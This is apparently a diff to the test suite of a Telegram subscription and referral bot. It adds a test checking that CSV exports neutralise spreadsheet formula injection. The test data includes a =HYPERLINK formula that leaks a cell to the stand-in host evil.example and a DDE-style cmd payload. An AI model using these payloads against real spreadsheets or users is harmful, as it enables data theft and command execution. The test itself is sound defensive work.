@@ -24,7 +24,7 @@ import type { SentMessage, UserInput } from '../../infrastructure/sandbox/telegr
 import { buttonsOf, conversation, textMatches, WAIT_MS } from '../../test/conversation';
 import { eventually, startStack, type Stack } from '../../test/harness';
 import { assertLedgerInvariant, balancesOf, fundReferrer } from '../../test/ledger';
-import { parseCsv } from './csv';
+import { readCsv } from '../../test/csv';
 import { REFERRERS_HEADER, USERS_HEADER } from './exports';
 
 const DAY_MS = 86_400_000;
@@ -409,12 +409,51 @@ describe('subscriptions, through the workflow', () => {
 });
 
 describe('exports', () => {
+  /** A document the bot sent, read back as a person would: getFile, then its download URL, over HTTP. */
+  const download = async (fileId: string): Promise<Buffer> => {
+    const { botToken, apiRoot } = stack.config.telegram;
+    const file = await new Api(botToken, { apiRoot }).getFile(fileId);
+    expect(file.file_path).toMatch(/^documents\//);
+    const response = await fetch(`${apiRoot}/file/bot${botToken}/${file.file_path}`);
+    expect(response.status).toBe(200);
+    return Buffer.from(await response.arrayBuffer());
+  };
   const csvOf = async (message: SentMessage) => {
     expect(message.method).toBe('sendDocument');
-    const content = tg().fileContent(message.document!.file_id);
-    expect(content).toBeDefined();
-    return parseCsv(content!.toString('utf8'));
+    return readCsv(await download(message.document!.file_id));
   };
+
+  it('/export opens as plain text: names starting with =, +, -, @, tab or CR get a leading quote', async () => {
+    const tag = randomUUID().slice(0, 6);
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажми")';
+    const formulas = [
+      await customer({ firstName: hyperlink, lastName: '-1+1', username: `@evil_${tag}` }),
+      await customer({ firstName: '+7 (999) 123-45-67', lastName: '\tTab', username: `=cmd_${tag}` }),
+      await customer({ firstName: '@SUM(1+1)*cmd|" /C calc"!A0', lastName: '\rCR', username: `-minus_${tag}` }),
+      await customer({ firstName: '-5', lastName: 'Петров', username: `+plus_${tag}` }),
+    ];
+    const document = await say(ADMIN, '/export', (m) => m.method === 'sendDocument');
+    expect(document.document).toMatchObject({ file_name: 'users.csv', mime_type: 'text/csv' });
+    const bytes = await download(document.document!.file_id);
+    // A UTF-8 byte order mark first (spreadsheet apps then read Cyrillic as UTF-8), the raw cells quoted.
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const raw = bytes.toString('utf8');
+    expect(raw).toContain(`,'@evil_${tag},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Нажми"")",'-1+1,`);
+    expect(raw).toContain(`,'=cmd_${tag},'+7 (999) 123-45-67,'\tTab,`);
+    expect(raw).toContain(`,'-minus_${tag},"'@SUM(1+1)*cmd|"" /C calc""!A0","'\rCR",`);
+    expect(raw).toContain(`,'+plus_${tag},'-5,Петров,`);
+
+    const rows = readCsv(bytes);
+    const names = (user: UserInput) => rows.find((r) => r[0] === String(user.id))?.slice(1, 4);
+    expect(formulas.map(names)).toEqual([
+      [`'@evil_${tag}`, `'${hyperlink}`, "'-1+1"],
+      [`'=cmd_${tag}`, "'+7 (999) 123-45-67", "'\tTab"],
+      [`'-minus_${tag}`, `'@SUM(1+1)*cmd|" /C calc"!A0`, "'\rCR"],
+      [`'+plus_${tag}`, "'-5", 'Петров'],
+    ]);
+    // Nowhere in the whole file does a cell start with what a spreadsheet would evaluate.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
 
   it('/export sends every user as CSV that parses back to the same values, quotes and line breaks included', async () => {
     const tricky = await customer({
@@ -541,19 +580,17 @@ describe('exports', () => {
         { referredId: idle.id, referrerId: partner.id },
       ]);
     const invoiceId = `${payer.id}-${defaultPlan.planId}-t`;
-    await db()
-      .insert(invoices)
-      .values({
-        id: invoiceId,
-        userId: payer.id,
-        purpose: 'subscription',
-        planId: defaultPlan.planId,
-        provider: 'cryptocloud',
-        amountMinor: 1200n,
-        currency: 'USD',
-        status: 'paid',
-        paidAt: new Date(),
-      });
+    await db().insert(invoices).values({
+      id: invoiceId,
+      userId: payer.id,
+      purpose: 'subscription',
+      planId: defaultPlan.planId,
+      provider: 'cryptocloud',
+      amountMinor: 1200n,
+      currency: 'USD',
+      status: 'paid',
+      paidAt: new Date(),
+    });
     await post(db(), heldPosting({ invoiceId, referrerId: partner.id, amountMinor: 150n, currency: 'USD' }));
     await fundReferrer(db(), partner.id, 3000n, randomUUID());
 
@@ -599,7 +636,7 @@ describe('exports', () => {
     await tg().waitForMessage(partner.id, textMatches(new RegExp(`Transaction: ${txHash}`)), WAIT_MS);
     await adminSays(
       `/paid ${payoutId} ${txHash}`,
-      new RegExp(`Payout ${payoutId} is paid: it cannot be marked as paid`),
+      new RegExp(`Payout ${payoutId} is paid \\(decided by ${ADMIN.id}\\): it cannot be marked as paid`),
     );
     // Decisions are audited by the payout workflow with the admin's id; refusals by the bot.
     const payoutAudit = await auditRows(payoutId);
@@ -705,7 +742,7 @@ describe('/referral and /payout for users', () => {
       () => (tg().callbackAnswer(queryId)?.answered ? tg().callbackAnswer(queryId) : undefined),
       WAIT_MS,
     );
-    expect(answer?.text).toBe(`⚠️ Payout ${payoutId} is rejected: it cannot be approved.`);
+    expect(answer?.text).toBe(`⚠️ Payout ${payoutId} is rejected (decided by ${ADMIN.id}): it cannot be approved.`);
     await adminSays('/approve nosuchpayout', /There is no payout “nosuchpayout”/);
 
     // /reject with a reason.
